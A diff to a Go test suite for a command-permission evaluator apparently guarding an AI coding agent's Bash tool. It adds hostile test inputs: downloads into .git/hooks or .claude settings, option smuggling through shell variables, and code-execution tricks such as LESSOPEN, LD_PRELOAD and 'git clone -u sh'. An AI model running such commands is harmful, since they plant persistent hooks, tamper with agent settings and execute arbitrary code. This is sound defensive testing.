@@ -163,6 +163,8 @@ func TestAttackProtectedCommands(t *testing.T) {
 		"cp x .GIT/hooks/pre-commit", "tar -xf a.tar -C .git", "cp x \"$D\"", "ls | xargs -I{} cp {} .git/hooks/",
 		"curl -o .git/hooks/pre-commit x", "wget -O ~/.bashrc x", "cd .claude && curl -O https://h/settings.json",
 		"tar -xf a.tar .git/hooks/pre-commit", "tar -xf a.tar -C .claude settings.json",
+		"O='-t .git/hooks'; cp $O a b", "O='-o .git/hooks/x'; curl $O https://h/x", "wget $O https://h/x",
+		"chmod $M .git/hooks/x", "ln -s $T .git/hooks/pre-commit",
 	}
 	for _, mode := range []Mode{ModeDefault, ModeAcceptEdits, ModeDontAsk} {
 		ev := e.evaluator(t, mode, layers...)
@@ -243,7 +245,8 @@ func TestAttackDangerousForms(t *testing.T) {
 		"env LESSOPEN='|sh %s' less a.txt", "sudo GIT_SSH_COMMAND=sh git fetch", "env LD_PRELOAD=/tmp/x.so cat a.txt",
 		"env RIPGREP_CONFIG_PATH=/tmp/rc rg foo", "git grep -nO foo", "git rebase -ix sh main",
 		"git send-email --smtp-server=/tmp/x a.patch", "git clone --template=/tmp/t https://h/r",
-		"git clone -u sh https://h/r", "less '+!id' a.txt", "file -C -m x",
+		"git clone -u sh https://h/r", "less '+!id' a.txt", "file -C -m x", "x=--output=/tmp/o; git log \"$x\"",
+		"git diff $OPTS", "x=-i; sed s/a/b/ \"$x\" a.txt", "o=-o/tmp/x; sort \"$o\" a.txt", "awk \"$OPT\" '{print}' a.txt",
 	}
 	for _, mode := range []Mode{ModeDefault, ModeAcceptEdits, ModeDontAsk} {
 		ev := e.evaluator(t, mode, layers...)
@@ -299,6 +302,7 @@ var everyday = []string{
 	"nice -n 10 find . -name '*.tmp'", "base64 a.txt", "stat a.txt", "file a.txt", "du -sh src",
 	"sed ':a;N;$!ba;s/\\n/ /g' a.txt", "awk '{ n++ } END { print n / 2 }' a.txt", "env LANG=C.UTF-8 grep -c x a.txt",
 	"awk 'BEGIN { if (x > 1) print \"big\" }'", "less +/foo a.txt", "jq --arg n x '.[$n]' a.txt",
+
 }
 
 // stdinFed are everyday commands whose files come from xargs: with a Read deny rule
@@ -344,6 +348,24 @@ func TestEverydayReadOnlyCommands(t *testing.T) {
 			if d := ev.Evaluate(Request{Tool: "Bash", Input: input(t, "command", cmd), Cwd: e.project}); d.Behavior != Allow {
 				t.Errorf("%s: %q: want allow, got %s: %s", cfg.mode, cmd, d.Behavior, d.Reason)
 			}
+		}
+	}
+}
+
+// TestRunTimeOperands: without Read or Edit rules a file named at run time is no
+// reason to ask; a word that may be an option of a command with dangerous options is.
+func TestRunTimeOperands(t *testing.T) {
+	e := effectsEnv(t)
+	ev := e.evaluator(t, ModeDefault, allow(everydayRules...), allow("Bash(git commit *)"))
+	for _, cmd := range []string{"awk '{print $1}' \"$f\"", "cat \"$f\"", "grep -n foo \"$f\"", "git status -- \"$dir\"",
+		"git commit -m \"$(cat <<'EOF'\nfix: x\nEOF\n)\"", "for f in src/*.go; do wc -l \"$f\"; done", "head -n 5 $f"} {
+		if d := ev.Evaluate(Request{Tool: "Bash", Input: input(t, "command", cmd), Cwd: e.project}); d.Behavior != Allow {
+			t.Errorf("%q: want allow, got %s: %s", cmd, d.Behavior, d.Reason)
+		}
+	}
+	for _, cmd := range []string{"git log --oneline \"$@\"", "sed -n 1p \"$f\"", "sort \"$f\"", "find \"$d\" $EXPR"} {
+		if d := ev.Evaluate(Request{Tool: "Bash", Input: input(t, "command", cmd), Cwd: e.project}); d.Behavior != Ask {
+			t.Errorf("%q: want ask, got %s: %s", cmd, d.Behavior, d.Reason)
 		}
 	}
 }
